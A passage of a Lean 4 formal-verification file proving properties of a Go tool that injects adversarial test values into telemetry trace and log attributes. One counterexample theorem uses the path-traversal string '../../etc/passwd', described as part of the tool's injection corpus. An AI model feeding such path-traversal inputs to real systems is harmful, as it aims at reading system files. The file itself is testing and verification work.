  | nil => rfl
  | cons a rest ih => simp [ih]; omega

/-- C17. Wherever timestamps feed string attributes, the string values for the
timestamps t1, ..., tn are RFC3339(t1), UnixSeconds(t1), ..., RFC3339(tn),
UnixSeconds(tn): the loop appends these 2n entries, in this order, to the
values it starts from; `GetAggroValues` and `GetAggroValuesForProtocol` append
them to the strings and numerics, and the timestamp blocks of
`ApplyAggroToTraceAttributes` and `ApplyAggroToLogAttributes` work on the same
list. -/
theorem timestamps_feed_both_forms {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) (values : List GoString) (ts : List T) :
    appendTimestampValues env values ts =
      values ++ (ts.map (fun t =>
        [env.time.FormatRFC3339 t, FormatInt (env.time.ToUnix t)])).flatten ∧
    (appendTimestampValues env [] ts).length = 2 * ts.length ∧
    (∀ (i : Nat) (t : T), ts[i]? = some t →
      (appendTimestampValues env [] ts)[2 * i]? = some (env.time.FormatRFC3339 t) ∧
      (appendTimestampValues env [] ts)[2 * i + 1]? = some (FormatInt (env.time.ToUnix t))) ∧
    GetAggroValues env =
      GetAggroStrings env ++ GetAggroNumerics env ++
        appendTimestampValues env [] (GetAggroTimestamps env) ∧
    GetAggroValuesForProtocol env protocol =
      (if protocol = lit "grpc" then (GetAggroStrings env).map sanitizeForGRPC
        else GetAggroStrings env) ++ GetAggroNumerics env ++
        appendTimestampValues env [] (GetAggroTimestamps env) ∧
    ApplyAggroToTraceAttributes env config attrs skipKeys protocol g =
      tracePhase (appendTimestampValues env [] (GetAggroTimestamps env)) (lit "aggro.timestamp")
        config.TimestampTarget config.TimestampActive skipKeys
        (tracePhase (GetAggroNumerics env) (lit "aggro.numeric")
          config.NumericTarget config.NumericActive skipKeys
          (tracePhase (categoryValues env protocol .string) (lit "aggro.string")
            config.StringTarget config.StringActive skipKeys ⟨attrs, [], g⟩)) ∧
    ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g =
      logPhase (appendTimestampValues env [] (GetAggroTimestamps env)) (lit "aggro.timestamp")
        config.TimestampTarget config.TimestampActive skipKeys
        (logPhase (GetAggroNumerics env) (lit "aggro.numeric")
          config.NumericTarget config.NumericActive skipKeys
          (logPhase (categoryValues env protocol .string) (lit "aggro.string")
            config.StringTarget config.StringActive skipKeys ⟨attrs, logMessage, [], g⟩)) := by
  have hts : appendTimestampValues env [] (GetAggroTimestamps env) =
      categoryValues env protocol .timestamp := by
    rw [appendTimestampValues_eq]; simp [categoryValues]
  refine ⟨appendTimestampValues_eq env values ts, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · rw [appendTimestampValues_eq, List.nil_append]
    exact flatten_pairs_length _ _ ts
  · intro i t hi
    rw [appendTimestampValues_eq, List.nil_append]
    exact flatten_pairs_getElem? _ _ ts i t hi
  · simp [GetAggroValues, appendTimestampValues_eq]
  · simp [GetAggroValuesForProtocol, appendTimestampValues_eq]
  · rw [ApplyAggroToTraceAttributes_eq_phases, hts]; rfl
  · rw [ApplyAggroToLogAttributes_eq_phases, hts]; rfl

/-! ## Theorems: targets and metadata -/

/-- C18, as stated, fails. The only non-skipped attribute already holds the
string "../../etc/passwd", which is entry 85 of the string corpus of the sample
environment; with the string category active and random targeting, the draws
0 (key) and 85 (value) select that attribute and that entry: the metadata
reports "fake.attr.1", and the value at that key is the pre-injection value. -/
theorem injected_value_can_equal_old_value :
    (configOnly .string []).onlyActive .string ∧
    (∃ a ∈ [(⟨lit "fake.attr.1", Value.string (lit "../../etc/passwd")⟩ : KeyValue Unit)],
      a.Key ∉ [lit "http.method"]) ∧
    (ApplyAggroToTraceAttributes sampleEnv (configOnly .string [])
      [(⟨lit "fake.attr.1", Value.string (lit "../../etc/passwd")⟩ : KeyValue Unit)]
      [lit "http.method"] (lit "grpc") (listRng [0, 85])).metadata =
      [attributeString (lit "aggro.string") (lit "fake.attr.1")] ∧
    (ApplyAggroToTraceAttributes sampleEnv (configOnly .string [])
      [(⟨lit "fake.attr.1", Value.string (lit "../../etc/passwd")⟩ : KeyValue Unit)]
      [lit "http.method"] (lit "grpc") (listRng [0, 85])).attrs =
      [⟨lit "fake.attr.1", Value.string (lit "../../etc/passwd")⟩] := by
  exact ⟨configOnly_onlyActive _ _,
    ⟨⟨lit "fake.attr.1", Value.string (lit "../../etc/passwd")⟩, by decide, by decide⟩,
    by decide, by decide⟩

/-- C18, amended. With only the string category active, random targeting and at
least one non-skipped attribute, for every input and every outcome of the
random choices the metadata is one "aggro.string" entry reporting a key `k`,
and the first attribute with the key `k` becomes the string attribute `(k, v)`
for a value `v` of the string corpus (sanitized under "grpc"). The new value
differs from the pre-injection value whenever the pre-injection value is not
a string of that corpus; nothing makes it differ otherwise. -/
theorem injected_value_is_a_corpus_string {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng)
    (hone : config.onlyActive .string) (ht : config.StringTarget = [])
    (hne : ∃ a ∈ attrs, a.Key ∉ skipKeys) :
    ∃ (k : GoString) (i : Nat) (a : KeyValue α) (v : GoString),
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata =
        [attributeString (lit "aggro.string") k] ∧
      attrs[i]? = some a ∧ a.Key = k ∧
      (∀ (j : Nat) (b : KeyValue α), j < i → attrs[j]? = some b → b.Key ≠ k) ∧
      v ∈ categoryValues env protocol .string ∧
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs[i]? =
        some ⟨k, Value.string v⟩ ∧
      ((∀ w ∈ categoryValues env protocol .string, a.Value ≠ Value.string w) →
        (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs[i]? ≠
          attrs[i]?) := by
  obtain ⟨kf, vf, hc, hm, ha⟩ := trace_master env config attrs skipKeys protocol g
  have hfil := filter_order_single (traceFires config (availableTraceKeys attrs skipKeys)) .string
    (fun d hd => (onlyActive_fires_false config .string d hone hd _).1)
  have hf : traceFires config (availableTraceKeys attrs skipKeys) .string = true :=
    (traceFires_iff _ _ _).mpr
      ⟨(hone .string).mpr rfl, availableTraceKeys_ne_nil attrs skipKeys hne, Or.inl ht⟩
  rw [hfil, hf] at hm ha
  simp only [if_true, List.map_cons, List.map_nil, List.foldl_cons, List.foldl_nil] at hm ha
  obtain ⟨hmem, _, hv⟩ := hc .string hf
  have hkeys := ((mem_availableTraceKeys attrs skipKeys _).mp hmem).1
  obtain ⟨i, a, h1, h2, h3, h4⟩ := replaceTraceValue_eq_set (kf .string) (vf .string) attrs hkeys
  have hlt : i < attrs.length := by
    rcases Nat.lt_or_ge i attrs.length with h | h
    · exact h
    · rw [List.getElem?_eq_none_iff.mpr h] at h1
      exact absurd h1 (by simp)
  have hres : (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs[i]? =
      some ⟨kf .string, Value.string (vf .string)⟩ := by
    rw [ha, h4]
    simp [hlt]
  refine ⟨kf .string, i, a, vf .string, hm, h1, h2, h3, hv, hres, ?_⟩
  intro hall heq
  rw [hres, h1] at heq
  have := Option.some.inj heq
  exact hall (vf .string) hv (by rw [← this])

/-- C18, amended, on the scenario of the specification with the string category
active and random targeting. -/
theorem injected_value_is_a_corpus_string_witness :
    (configOnly .string []).onlyActive .string ∧
    (configOnly .string []).StringTarget = [] ∧
    (∃ a ∈ sampleAttrs, a.Key ∉ [lit "http.method"]) ∧
    ∃ (k : GoString) (i : Nat) (a : KeyValue Unit) (v : GoString),
      (ApplyAggroToTraceAttributes sampleEnv (configOnly .string []) sampleAttrs
        [lit "http.method"] (lit "grpc") (listRng [1, 40])).metadata =
        [attributeString (lit "aggro.string") k] ∧
      sampleAttrs[i]? = some a ∧ a.Key = k ∧
      (∀ (j : Nat) (b : KeyValue Unit), j < i → sampleAttrs[j]? = some b → b.Key ≠ k) ∧
      v ∈ categoryValues sampleEnv (lit "grpc") .string ∧
      (ApplyAggroToTraceAttributes sampleEnv (configOnly .string []) sampleAttrs
        [lit "http.method"] (lit "grpc") (listRng [1, 40])).attrs[i]? =
        some ⟨k, Value.string v⟩ ∧
      ((∀ w ∈ categoryValues sampleEnv (lit "grpc") .string, a.Value ≠ Value.string w) →
        (ApplyAggroToTraceAttributes sampleEnv (configOnly .string []) sampleAttrs
          [lit "http.method"] (lit "grpc") (listRng [1, 40])).attrs[i]? ≠ sampleAttrs[i]?) :=
  ⟨configOnly_onlyActive _ _, rfl,
   ⟨⟨lit "fake.attr.1", Value.string (lit "x")⟩, by decide, by decide⟩,
   injected_value_is_a_corpus_string sampleEnv (configOnly .string []) sampleAttrs
     [lit "http.method"] (lit "grpc") (listRng [1, 40]) (configOnly_onlyActive _ _) rfl
     ⟨⟨lit "fake.attr.1", Value.string (lit "x")⟩, by decide, by decide⟩⟩

/-- The entries of a category in the metadata of `ApplyAggroToTraceAttributes`:
one entry with the target choice of the category when it fires, none
otherwise. -/
theorem entriesFor_trace_metadata {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng)
    (c : Category) :
    entriesFor c.metaKey
        (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata =
      if traceFires config (availableTraceKeys attrs skipKeys) c = true then
        [attributeString c.metaKey (chosenTarget config (availableTraceKeys attrs skipKeys) g c)]
      else [] := by
  rw [trace_metadata_formula, entriesFor_metadata]

theorem traceFires_congr (config config' : AggroConfig) (avail : List GoString) (c : Category)
    (hact : config'.active c = config.active c) (htgt : config'.target c = config.target c) :
    traceFires config' avail c = traceFires config avail c := by
  simp [traceFires, hact, htgt]

/-- C19. Categories proceed independently in `ApplyAggroToTraceAttributes`.
Take two calls on attribute lists with the same keys and the same skipKeys,
whose configurations agree on one category (its activation flag and its
target) and are arbitrary on the other two; environments, protocols, attribute
values and random sources may differ. The category has an entry in one call
exactly when it has one in the other; with an explicit target the entries are
equal; with random targeting they are equal whenever the target choices are.
The entry is present exactly when the category is active, some key is
available and the target is empty or available, and its value is the target
choice. -/
theorem category_entry_is_independent_of_others {T T' α : Type} (env : Env T) (env' : Env T')
    (config config' : AggroConfig) (attrs attrs' : List (KeyValue α))
    (skipKeys : List GoString) (protocol protocol' : GoString) (g g' : Rng) (c : Category)
    (hact : config'.active c = config.active c) (htgt : config'.target c = config.target c)
    (hkeys : keysOf attrs' = keysOf attrs) :
    (entriesFor c.metaKey
        (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata = [] ↔
      entriesFor c.metaKey
        (ApplyAggroToTraceAttributes env' config' attrs' skipKeys protocol' g').metadata = []) ∧
    (config.target c ≠ [] →
      entriesFor c.metaKey
          (ApplyAggroToTraceAttributes env' config' attrs' skipKeys protocol' g').metadata =
        entriesFor c.metaKey
          (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata) ∧
    (chosenTarget config' (availableTraceKeys attrs skipKeys) g' c =
        chosenTarget config (availableTraceKeys attrs skipKeys) g c →
      entriesFor c.metaKey
          (ApplyAggroToTraceAttributes env' config' attrs' skipKeys protocol' g').metadata =
        entriesFor c.metaKey
          (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata) ∧
    entriesFor c.metaKey
        (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata =
      (if config.active c = true ∧ availableTraceKeys attrs skipKeys ≠ [] ∧
          (config.target c = [] ∨ config.target c ∈ availableTraceKeys attrs skipKeys) then
        [attributeString c.metaKey (chosenTarget config (availableTraceKeys attrs skipKeys) g c)]
      else []) := by
  have hav := availableTraceKeys_congr attrs' attrs skipKeys hkeys
  have hf := traceFires_congr config config' (availableTraceKeys attrs skipKeys) c hact htgt
  have e := entriesFor_trace_metadata env config attrs skipKeys protocol g c
  have e' := entriesFor_trace_metadata env' config' attrs' skipKeys protocol' g' c
  rw [hav, hf] at e'
  refine ⟨?_, ?_, ?_, ?_⟩
  · rw [e, e']
    cases traceFires config (availableTraceKeys attrs skipKeys) c <;> simp
  · intro hne
    rw [e, e']
    simp [chosenTarget, htgt, hne]
  · intro hch
    rw [e, e', hch]
  · rw [e]
    simp only [traceFires, decide_eq_true_eq]

/-- C19 on the scenario of the specification: the numeric category with the
explicit target "fake.attr.2", alone in one call and, in the other, next to a
string category whose explicit target is missing and a timestamp category with
random targeting. -/
theorem category_entry_is_independent_of_others_witness :
    (⟨[], lit "fake.attr.2", lit "does.not.exist", true, true, true⟩ : AggroConfig).active
      .numeric = (configOnly .numeric (lit "fake.attr.2")).active .numeric ∧
    (⟨[], lit "fake.attr.2", lit "does.not.exist", true, true, true⟩ : AggroConfig).target
      .numeric = (configOnly .numeric (lit "fake.attr.2")).target .numeric ∧
    keysOf sampleAttrs = keysOf sampleAttrs ∧
    (configOnly .numeric (lit "fake.attr.2")).target .numeric ≠ [] ∧
    entriesFor Category.numeric.metaKey
        (ApplyAggroToTraceAttributes sampleEnv
          ⟨[], lit "fake.attr.2", lit "does.not.exist", true, true, true⟩ sampleAttrs
          [lit "http.method"] (lit "http") (listRng [4, 4, 4])).metadata =
      entriesFor Category.numeric.metaKey
        (ApplyAggroToTraceAttributes sampleEnv (configOnly .numeric (lit "fake.attr.2"))
          sampleAttrs [lit "http.method"] (lit "grpc") (constRng 9)).metadata :=
  ⟨rfl, rfl, rfl, by decide,
   (category_entry_is_independent_of_others sampleEnv sampleEnv
      (configOnly .numeric (lit "fake.attr.2"))
      ⟨[], lit "fake.attr.2", lit "does.not.exist", true, true, true⟩ sampleAttrs sampleAttrs
      [lit "http.method"] (lit "grpc") (lit "http") (constRng 9) (listRng [4, 4, 4]) .numeric
      rfl rfl rfl).2.1 (by decide)⟩

/-- C20. The metadata is reproducible from the activation state and the chosen
targets alone. Two calls of `ApplyAggroToTraceAttributes` with the same
configuration, the same sequence of attribute keys, the same skipKeys and the
same target choice for every category that fires with random targeting return
the same metadata list, whatever the attribute values, the protocols, the
environments and the other draws of the random sources (the corpus values
chosen) are. -/
theorem metadata_is_reproducible_from_targets {T T' α : Type} (env : Env T) (env' : Env T')
    (config : AggroConfig) (attrs attrs' : List (KeyValue α)) (skipKeys : List GoString)
    (protocol protocol' : GoString) (g g' : Rng)
    (hkeys : keysOf attrs' = keysOf attrs)
    (hchoice : ∀ c, traceFires config (availableTraceKeys attrs skipKeys) c = true →
      config.target c = [] →
      pick (availableTraceKeys attrs skipKeys)
          (g'.draws (g'.pos + drawsBefore config (availableTraceKeys attrs skipKeys) c)) =
        pick (availableTraceKeys attrs skipKeys)
          (g.draws (g.pos + drawsBefore config (availableTraceKeys attrs skipKeys) c))) :
    (ApplyAggroToTraceAttributes env' config attrs' skipKeys protocol' g').metadata =
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).metadata := by
  have hav := availableTraceKeys_congr attrs' attrs skipKeys hkeys
  rw [trace_metadata_formula, trace_metadata_formula, hav]
  apply List.map_congr_left
  intro c hc
  have hf := (List.mem_filter.mp hc).2
  by_cases ht : config.target c = []
  · simp only [chosenTarget, ht, if_true]
    rw [hchoice c hf ht]
  · simp [chosenTarget, ht]

/-- C20 on the scenario of the specification with the three categories active
and random: other attribute values, another protocol, and random sources
that differ in every draw but pick the same keys. -/
theorem metadata_is_reproducible_from_targets_witness :
    keysOf [(⟨lit "http.method", Value.string (lit "POST")⟩ : KeyValue Unit),
        ⟨lit "fake.attr.1", Value.other ()⟩, ⟨lit "fake.attr.2", Value.string []⟩] =
      keysOf sampleAttrs ∧
    (ApplyAggroToTraceAttributes sampleEnv configAllRandom
        [(⟨lit "http.method", Value.string (lit "POST")⟩ : KeyValue Unit),
          ⟨lit "fake.attr.1", Value.other ()⟩, ⟨lit "fake.attr.2", Value.string []⟩]
        [lit "http.method"] (lit "http") (listRng [2, 7, 3, 1, 5, 0])).metadata =
      (ApplyAggroToTraceAttributes sampleEnv configAllRandom sampleAttrs [lit "http.method"]
        (lit "grpc") (listRng [0, 5, 1, 9, 1, 2])).metadata :=
  ⟨by decide,
   metadata_is_reproducible_from_targets sampleEnv sampleEnv configAllRandom sampleAttrs
     [(⟨lit "http.method", Value.string (lit "POST")⟩ : KeyValue Unit),
       ⟨lit "fake.attr.1", Value.other ()⟩, ⟨lit "fake.attr.2", Value.string []⟩]
     [lit "http.method"] (lit "grpc") (lit "http") (listRng [0, 5, 1, 9, 1, 2])
     (listRng [2, 7, 3, 1, 5, 0]) (by decide)
     (fun c _ _ => by cases c <;> decide)⟩

/-! ## Lemmas: metric values and the metric dispatch -/

theorem wrapInt_of_range (x : Int) (h1 : -2 ^ 63 ≤ x) (h2 : x < 2 ^ 63) : wrapInt x = x := by
  unfold wrapInt
  norm_num at h1 h2 ⊢
  omega

theorem wrapInt_range (x : Int) : -2 ^ 63 ≤ wrapInt x ∧ wrapInt x < 2 ^ 63 := by
  unfold wrapInt
  norm_num
  omega

theorem Intn_pos (n : Int) (g : Rng) (h : 0 < n) :
    (Intn n g).1 = ((GetRandom g).1 : Int) % n ∧ (Intn n g).2 = (GetRandom g).2 := by
  have hn : ¬ n ≤ 0 := by omega
  have ht : (n.toNat : Int) = n := Int.toNat_of_nonneg (by omega)
  simp only [Intn, hn, if_false, and_true]
  rw [Int.natCast_mod, ht]

theorem Intn_nonpos (n : Int) (g : Rng) (h : n ≤ 0) : Intn n g = (0, g) := by
  simp [Intn, h]

theorem Intn_bounds (n : Int) (g : Rng) (h : 0 < n) : 0 ≤ (Intn n g).1 ∧ (Intn n g).1 < n := by
  rw [(Intn_pos n g h).1]
  exact ⟨Int.emod_nonneg _ (by omega), Int.emod_lt_of_pos _ h⟩

theorem GetRandom_lt (g : Rng) : (GetRandom g).1 < 2 ^ 64 :=
  Nat.mod_lt _ (by norm_num)

/-- C24: `randomness.Intn` returns an int in the range [0, n). For every `n > 0`
(an `int`) the result is the 64-bit draw `r` of the random source modulo `n`,
so it is at least 0 and less than `n`, and one draw is made; for every `n ≤ 0`
the result is 0 and no draw is made. -/
theorem Intn_is_draw_mod_n (n : Int) (g : Rng) :
    (GetRandom g).1 < 2 ^ 64 ∧
    (0 < n → (Intn n g).1 = ((GetRandom g).1 : Int) % n ∧
      0 ≤ (Intn n g).1 ∧ (Intn n g).1 < n ∧ (Intn n g).2.pos = g.pos + 1) ∧
    (n ≤ 0 → (Intn n g).1 = 0 ∧ (Intn n g).2 = g) := by
  refine ⟨GetRandom_lt g, fun h => ?_, fun h => ?_⟩
  · refine ⟨(Intn_pos n g h).1, (Intn_bounds n g h).1, (Intn_bounds n g h).2, ?_⟩
    rw [(Intn_pos n g h).2]
    rfl
  · rw [Intn_nonpos n g h]
    exact ⟨rfl, rfl⟩

theorem Intn_is_draw_mod_n_witness :
    (GetRandom (constRng 12345)).1 < 2 ^ 64 ∧
    ((0 : Int) < 100 → (Intn 100 (constRng 12345)).1 = ((GetRandom (constRng 12345)).1 : Int) % 100 ∧
      0 ≤ (Intn 100 (constRng 12345)).1 ∧ (Intn 100 (constRng 12345)).1 < 100 ∧
      (Intn 100 (constRng 12345)).2.pos = (constRng 12345).pos + 1) ∧
    ((100 : Int) ≤ 0 → (Intn 100 (constRng 12345)).1 = 0 ∧
      (Intn 100 (constRng 12345)).2 = constRng 12345) ∧
    (Intn 100 (constRng 12345)).1 = 45 ∧ (Intn (-3) (constRng 12345)).1 = 0 :=
  ⟨(Intn_is_draw_mod_n 100 (constRng 12345)).1, (Intn_is_draw_mod_n 100 (constRng 12345)).2.1,
    (Intn_is_draw_mod_n 100 (constRng 12345)).2.2, by decide, by decide⟩

/-- C26: the byte check of the fast path and the rune filter of the slow path of
the sanitizer agree on ASCII. For every byte `b`, `isProblematicControlChar b`
holds exactly when `b` is in 0x00-0x08, 0x0B, 0x0C, 0x0E-0x1F or 0x7F; and for
every `b < 0x80` it is true exactly when `isValidRuneForGRPC` is false on the
rune `b`. -/
theorem byte_check_agrees_with_rune_filter (b : Nat) :
    (isProblematicControlChar b = true ↔
      (b ≤ 0x08 ∨ b = 0x0B ∨ b = 0x0C ∨ (0x0E ≤ b ∧ b ≤ 0x1F) ∨ b = 0x7F)) ∧
    (b < 0x80 → (isProblematicControlChar b = true ↔ isValidRuneForGRPC b = false)) := by
  refine ⟨isProblematicControlChar_iff b, fun hb => ?_⟩
  rw [isProblematicControlChar_iff]
  unfold isValidRuneForGRPC RuneError
  split
  · simp only [decide_eq_false_iff_not]
    omega
  · split
    · rename_i h1 h2
      simp only [iff_true]
      omega
    · have h65 : ¬ b = 65533 := by omega
      simp only [ne_eq, h65, not_false_eq_true, decide_True, Bool.true_eq_false, iff_false]
      omega

theorem byte_check_agrees_with_rune_filter_witness :
    (isProblematicControlChar 0x0B = true ↔
      (0x0B ≤ 0x08 ∨ 0x0B = 0x0B ∨ 0x0B = 0x0C ∨ (0x0E ≤ 0x0B ∧ 0x0B ≤ 0x1F) ∨ 0x0B = 0x7F)) ∧
    (0x0B < 0x80 → (isProblematicControlChar 0x0B = true ↔ isValidRuneForGRPC 0x0B = false)) ∧
    isProblematicControlChar 0x0B = true ∧ isValidRuneForGRPC 0x0B = false ∧
    isProblematicControlChar 0x0A = false ∧ isValidRuneForGRPC 0x0A = true :=
  ⟨(byte_check_agrees_with_rune_filter 0x0B).1, (byte_check_agrees_with_rune_filter 0x0B).2,
    by decide, by decide, by decide, by decide⟩

/-! ## Theorems: the generators -/

/-- C22 (the code on the failing input): with five generated attributes the
override "fake.attr.9=x" has no effect at all. Its key matches no generated
key, and the loop for the remaining overrides passes over it because the key
starts with "fake.attr.": the span has the attributes it has without the
override, none of them keyed "fake.attr.9". An override that matches a
generated key replaces the value (by everything after the first "="), and one
whose key lacks the prefix is appended. -/
theorem unmatched_fake_attr_override_is_dropped (word : Nat → GoString) :
    (spanAttributes 5 [lit "fake.attr.9=x"] word : List (KeyValue Unit)) =
      spanAttributes 5 [] word ∧
    lit "fake.attr.9" ∉
      keysOf (spanAttributes 5 [lit "fake.attr.9=x"] word : List (KeyValue Unit)) ∧
    (spanAttributes 2 [lit "fake.attr.2=a=b", lit "test.attribute=custom-value"] word :
        List (KeyValue Unit)) =
      [attributeString (lit "http.method") (lit "GET"),
       attributeString (lit "fake.attr.1") (word 0),
       attributeString (lit "fake.attr.2") (lit "a=b"),
       attributeString (lit "test.attribute") (lit "custom-value")] := by
  refine ⟨?_, ?_, ?_⟩
  · rfl
  · have h : keysOf (spanAttributes 5 [lit "fake.attr.9=x"] word : List (KeyValue Unit)) =
        [lit "http.method", lit "fake.attr.1", lit "fake.attr.2", lit "fake.attr.3",
          lit "fake.attr.4", lit "fake.attr.5"] := rfl
    rw [h]
    decide
  · rfl

/-! ## Lemmas: repeated keys -/

theorem replaceTraceValue_dup {α : Type} (k v : GoString) (attrs : List (KeyValue α))
    (i j : Nat) (a : KeyValue α) (hji : j < i) (ha : attrs[i]? = some a)
    (hj : (keysOf attrs)[j]? = some a.Key) :
    (replaceTraceValue k v attrs)[i]? = some a := by
  by_cases hk : a.Key = k
  · have hmem : k ∈ keysOf attrs := by
      rw [← hk]
      exact List.mem_iff_getElem?.mpr ⟨j, hj⟩
    obtain ⟨i0, a0, _, _, hfirst, hset⟩ := replaceTraceValue_eq_set k v attrs hmem
    have hle : i0 ≤ j := by
      by_contra hlt
      have hlt : j < i0 := by omega
      simp only [keysOf, List.getElem?_map, Option.map_eq_some'] at hj
      obtain ⟨b, hb, hbk⟩ := hj
      exact hfirst j b hlt hb (by rw [hbk, hk])
    rw [hset, List.getElem?_set_ne (by omega)]
    exact ha
  · exact replaceTraceValue_getElem? k v attrs i a ha hk

theorem foldl_replace_dup {α : Type} (k v : Category → GoString) (cs : List Category)
    (attrs : List (KeyValue α)) (i j : Nat) (a : KeyValue α) (hji : j < i)
    (ha : attrs[i]? = some a) (hj : (keysOf attrs)[j]? = some a.Key) :
    (cs.foldl (fun l c => replaceTraceValue (k c) (v c) l) attrs)[i]? = some a := by
  induction cs generalizing attrs with
  | nil => exact ha
  | cons c rest ih =>
    simp only [List.foldl_cons]
    apply ih
    · exact replaceTraceValue_dup (k c) (v c) attrs i j a hji ha hj
    · rw [keysOf_replaceTraceValue]
      exact hj

theorem logInject_dup {α : Type} (k v : GoString) (r : List (KeyValue α) × GoString)
    (i j : Nat) (a : KeyValue α) (hji : j < i) (ha : r.1[i]? = some a)
    (hj : (keysOf r.1)[j]? = some a.Key) :
    (logInject k v r).1[i]? = some a := by
  unfold logInject
  split
  · exact ha
  · simp only [replaceLogValue_eq]
    exact replaceTraceValue_dup k v r.1 i j a hji ha hj

theorem foldl_logInject_dup {α : Type} (k v : Category → GoString) (cs : List Category)
    (r : List (KeyValue α) × GoString) (i j : Nat) (a : KeyValue α) (hji : j < i)
    (ha : r.1[i]? = some a) (hj : (keysOf r.1)[j]? = some a.Key) :
    (cs.foldl (fun r c => logInject (k c) (v c) r) r).1[i]? = some a := by
  induction cs generalizing r with
  | nil => exact ha
  | cons c rest ih =>
    simp only [List.foldl_cons]
    apply ih
    · exact logInject_dup (k c) (v c) r i j a hji ha hj
    · rw [logInject_keysOf]
      exact hj

theorem trace_keysOf {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (skipKeys : List GoString) (protocol : GoString) (g : Rng) :
    keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs =
      keysOf attrs := by
  obtain ⟨k, v, _, _, hattrs⟩ := trace_master env config attrs skipKeys protocol g
  rw [hattrs, foldl_replace_keysOf]

theorem log_keysOf {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs =
      keysOf attrs := by
  obtain ⟨k, v, _, _, hattrs⟩ := log_master env config attrs logMessage skipKeys protocol g
  have h := congrArg Prod.fst hattrs
  simp only at h
  rw [h, foldl_logInject_keysOf]

/-- C28: for every call of `ApplyAggroToTraceAttributes` and
`ApplyAggroToLogAttributes`, with any configuration and any state of the
random source, the returned attribute list has the sequence of keys of the
input list, hence its length: nothing is added, removed, reordered or renamed,
and unique keys stay unique. An attribute whose key occurs at an earlier
position of the list as well is returned unchanged: of a repeated key only the
first occurrence can change. -/
theorem keys_and_length_are_preserved {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    (keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs =
        keysOf attrs ∧
      (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs.length =
        attrs.length ∧
      ((keysOf attrs).Nodup →
        (keysOf (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs).Nodup) ∧
      (∀ (i j : Nat) (a : KeyValue α), j < i → attrs[i]? = some a →
        (keysOf attrs)[j]? = some a.Key →
        (ApplyAggroToTraceAttributes env config attrs skipKeys protocol g).attrs[i]? = some a)) ∧
    (keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs =
        keysOf attrs ∧
      (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs.length =
        attrs.length ∧
      ((keysOf attrs).Nodup →
        (keysOf (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol
          g).attrs).Nodup) ∧
      (∀ (i j : Nat) (a : KeyValue α), j < i → attrs[i]? = some a →
        (keysOf attrs)[j]? = some a.Key →
        (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs[i]? =
          some a)) := by
  have ht := trace_keysOf env config attrs skipKeys protocol g
  have hl := log_keysOf env config attrs logMessage skipKeys protocol g
  refine ⟨⟨ht, ?_, ?_, ?_⟩, ⟨hl, ?_, ?_, ?_⟩⟩
  · have := congrArg List.length ht
    simpa [keysOf] using this
  · intro h
    rw [ht]
    exact h
  · intro i j a hji ha hj
    obtain ⟨k, v, _, _, hattrs⟩ := trace_master env config attrs skipKeys protocol g
    rw [hattrs]
    exact foldl_replace_dup k v _ attrs i j a hji ha hj
  · have := congrArg List.length hl
    simpa [keysOf] using this
  · intro h
    rw [hl]
    exact h
  · intro i j a hji ha hj
    obtain ⟨k, v, _, _, hattrs⟩ := log_master env config attrs logMessage skipKeys protocol g
    have h := congrArg Prod.fst hattrs
    simp only at h
    rw [h]
    exact foldl_logInject_dup k v _ (attrs, logMessage) i j a hji ha hj

theorem keys_and_length_are_preserved_witness :
    (ApplyAggroToTraceAttributes sampleEnv configAllRandom
        ([⟨lit "a", Value.string (lit "1")⟩, ⟨lit "a", Value.string (lit "2")⟩] :
          List (KeyValue Unit)) [] (lit "grpc") (constRng 0)).attrs[1]? =
      some ⟨lit "a", Value.string (lit "2")⟩ :=
  (keys_and_length_are_preserved sampleEnv configAllRandom
    ([⟨lit "a", Value.string (lit "1")⟩, ⟨lit "a", Value.string (lit "2")⟩] :
      List (KeyValue Unit)) [] [] (lit "grpc") (constRng 0)).1.2.2.2 1 0
    ⟨lit "a", Value.string (lit "2")⟩ (by decide) (by decide) (by decide)

/-! ## Lemmas: the attributes in closed form -/

/-- An active category with the explicit target `k` selects `k` when `k` is an
available key. -/
theorem selects_of_explicit_target (config : AggroConfig) (avail : List GoString) (g : Rng)
    (c : Category) (k : GoString) (hact : config.active c = true)
    (htgt : config.target c = k) (hk : k ∈ avail) (hne : k ≠ []) :
    selects config avail g c k := by
  refine ⟨(traceFires_iff config avail c).mpr
    ⟨hact, List.ne_nil_of_mem hk, Or.inr (by rw [htgt]; exact hk)⟩, ?_⟩
  unfold chosenTarget
  rw [if_neg (by rw [htgt]; exact hne), htgt]

/-- An active category with random targeting selects `k` when `k` is the only
available key. -/
